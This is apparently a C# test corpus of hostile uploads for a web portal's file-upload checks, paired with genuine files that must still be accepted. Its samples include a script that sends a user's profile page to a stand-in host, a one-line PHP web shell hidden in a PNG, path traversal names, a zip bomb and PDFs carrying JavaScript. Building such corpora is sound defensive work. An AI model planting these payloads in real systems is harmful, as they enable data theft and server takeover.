using System.IO.Compression;
using System.Text;
using Portal.Testing;

namespace Portal.Web.Tests.Security;

/// <summary>Why a file is refused, which decides the message the uploader must read.</summary>
public enum Refusal
{
    WrongType,
    Empty,
    Oversized,
    FolderPath,
    HiddenContent,

    /// <summary>A PDF that would act on its own once opened: scripts, a launch action, embedded files.</summary>
    ActivePdf,

    /// <summary>A Word file with macros, a remote template or an embedded object (refused as a wrong type where Word files are not taken).</summary>
    ActiveOffice,
}

/// <summary>One hostile file: what the browser calls it, its bytes, and why it must be refused.</summary>
public sealed record CorpusFile(string Name, byte[] Bytes, Refusal Refusal, string What)
{
    public bool StartsLikePdf => Bytes.AsSpan().StartsWith("%PDF-"u8);

    public override string ToString() => $"{What} ({Name})";
}

/// <summary>
/// The upload corpus: renamed executables and web pages, wrong magic bytes, double extensions, names that climb out of
/// the folder, an empty and an oversized file, a zip bomb and a plain archive renamed .docx, polyglots whose first
/// bytes are right (a PDF or an image that is also a web page, a script or a ZIP/JAR), and genuine formats carrying
/// active content (a PDF's JavaScript, plain, hex-escaped or in a compressed object stream; /Launch; an embedded file;
/// a DOCX with a remote template; a macro document). Built in code, the same every run.
/// </summary>
public static class UploadCorpus
{
    public static readonly byte[] Pdf = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"u8.ToArray();

    /// <summary>An 8×8 grey baseline JPEG (JFIF, quantisation and Huffman tables, one scan, EOI).</summary>
    public static readonly byte[] Jpeg = Convert.FromBase64String(
        "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQH/wAALCAAIAAgBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAAAP/EABQQAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQEAAD8AP//Z");

    /// <summary>A real 1×1 PNG: signature, IHDR, IDAT, IEND.</summary>
    public static readonly byte[] Png = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    private static readonly byte[] Exe = [.. "MZ"u8, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00,
        .. "\u00b8\u0000\u0000\u0000This program cannot be run in DOS mode.\r\r\n$PE\0\0L\u0001"u8];

    private const string Page = "<!DOCTYPE html><html><body><script>fetch('/ho-so-cua-toi').then(r=>r.text()).then(t=>new Image().src='//x.example/'+btoa(t))</script></body></html>";

    public static IReadOnlyList<CorpusFile> Files(long maxFileBytes) =>
    [
        new("giay-khai-sinh.pdf", Exe, Refusal.WrongType, "a Windows program renamed .pdf"),
        new("anh-cccd.jpg", [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, .. ",\0\0\0\0\u0001\0\u0001\0\0\u0002\u0002D\u0001\0;"u8], Refusal.WrongType,
            "a GIF renamed .jpg (wrong magic bytes)"),
        new("to-khai.pdf", "PDF-1.4 to khai dang ky khai sinh"u8.ToArray(), Refusal.WrongType, "text that only looks like a PDF (wrong magic bytes)"),
        new("mat-png.png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x00, 0x0A, .. Png.AsSpan(8)], Refusal.WrongType, "a PNG with a damaged signature"),
        new("ket-qua.pdf", Encoding.UTF8.GetBytes(Page), Refusal.WrongType, "a web page renamed .pdf"),
        new("anh-chan-dung.png", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>"u8.ToArray(), Refusal.WrongType, "an SVG with script renamed .png"),
        new("ho-so.pdf.exe", Exe, Refusal.WrongType, "a double extension .pdf.exe"),
        new("bao-cao.exe.pdf", Exe, Refusal.WrongType, "a program behind a double extension .exe.pdf"),
        new("scan.jpg.html", Encoding.UTF8.GetBytes(Page), Refusal.WrongType, "a double extension .jpg.html"),
        new("../../../../etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"u8.ToArray(), Refusal.FolderPath, "a path traversal name"),
        new("../../wwwroot/giay-to.pdf", Pdf, Refusal.FolderPath, "a path traversal name on a genuine PDF"),
        new("scan/../../../documents/khac.pdf", Pdf, Refusal.FolderPath, "a traversal hidden inside the name"),
        new("rong.pdf", [], Refusal.Empty, "zero bytes"),
        new("qua-lon.pdf", [.. "%PDF-1.4\n"u8, .. new byte[maxFileBytes]], Refusal.Oversized, "one byte over the size limit"),
        new("to-khai-bom.docx", ZipBomb(), Refusal.WrongType, "a zip bomb renamed .docx"),
        new("du-lieu.docx", Zip(("readme.txt", "Khong phai tai lieu Word"u8.ToArray())), Refusal.WrongType, "a plain archive renamed .docx"),
        new("to-khai-html.pdf", [.. Pdf, .. Encoding.UTF8.GetBytes(Page)], Refusal.HiddenContent, "a PDF that is also a web page"),
        new("lien-ket.pdf", "%PDF-1.4\n1 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(javascript:alert(1))>>>>endobj\n%%EOF\n"u8.ToArray(),
            Refusal.HiddenContent, "a PDF with a javascript: link"),
        new("anh-jar.jpg", [.. Jpeg, .. Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: A\n"u8.ToArray()))], Refusal.HiddenContent,
            "a JPEG that is also a JAR (ZIP appended)"),
        new("anh-php.png", [.. Png, .. "<?php system($_GET['c']); ?>"u8], Refusal.HiddenContent, "a PNG that is also a PHP script"),
        new("giay-to-zip.pdf", [.. Pdf, .. Zip(("giay-to.exe", Exe))], Refusal.HiddenContent, "a PDF with an archive appended"),
        new("to-khai-js.pdf", ActiveContentSamples.PdfWithScript(), Refusal.ActivePdf, "a PDF whose JavaScript runs on opening (plain dictionary)"),
        new("to-khai-hex.pdf", ActiveContentSamples.PdfWithEscapedScript(), Refusal.ActivePdf, "a PDF whose JavaScript names are hex-escaped (/J#61vaScript)"),
        new("to-khai-nen.pdf", ActiveContentSamples.PdfWithObjectStream(), Refusal.ActivePdf, "a PDF with JavaScript inside a compressed object stream"),
        new("to-khai-launch.pdf", ActiveContentSamples.PdfWithLaunch(), Refusal.ActivePdf, "a PDF that launches a program"),
        new("to-khai-dinh-kem.pdf", ActiveContentSamples.PdfWithEmbeddedFile(), Refusal.ActivePdf, "a PDF with an embedded file"),
        new("don-mau-ngoai.docx", ActiveContentSamples.DocxWithRemoteTemplate(), Refusal.ActiveOffice, "a DOCX with an external attachedTemplate"),
        new("don-macro.docm", ActiveContentSamples.Docm(), Refusal.ActiveOffice, "a DOCM with vbaProject.bin"),
        new("don-macro.docx", ActiveContentSamples.Docm(), Refusal.ActiveOffice, "a DOCM renamed .docx"),
    ];

    /// <summary>Genuine files of every type anyone may upload: refusing the corpus must not refuse these.</summary>
    public static IReadOnlyList<(string Name, byte[] Bytes)> Genuine() =>
    [
        ("ban-quet.pdf", Pdf),
        ("anh-chup.jpg", Jpeg),
        ("anh-chup.png", Png),
        ("giay-to-pdfsharp.pdf", ActiveContentSamples.PdfSharpPage()),
        ("giay-to-lien-ket.pdf", ActiveContentSamples.PdfSharpPage("https://dichvucong.gov.vn/p/home/dvc-trang-chu.html")),
        ("C:\\Users\\An\\Documents\\to-khai.pdf", Pdf),
    ];

    /// <summary>Genuine Word files, for the slots that take them: an ordinary external hyperlink is allowed.</summary>
    public static IReadOnlyList<(string Name, byte[] Bytes)> GenuineDocx() =>
    [
        ("don-de-nghi.docx", ActiveContentSamples.Docx()),
        ("don-lien-ket.docx", ActiveContentSamples.DocxWithHyperlink()),
    ];

    /// <summary>A Word-shaped archive whose document expands a thousandfold (20 MB of zeros in about 20 KB).</summary>
    private static byte[] ZipBomb()
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var types = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
            {
                types.Write("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
            }

            using var document = zip.CreateEntry("word/document.xml", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1 << 20];
            for (var i = 0; i < 20; i++)
            {
                document.Write(zeros);
            }
        }

        return memory.ToArray();
    }

    private static byte[] Zip(params (string Name, byte[] Bytes)[] entries)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, bytes) in entries)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(bytes);
            }
        }

        return memory.ToArray();
    }
}
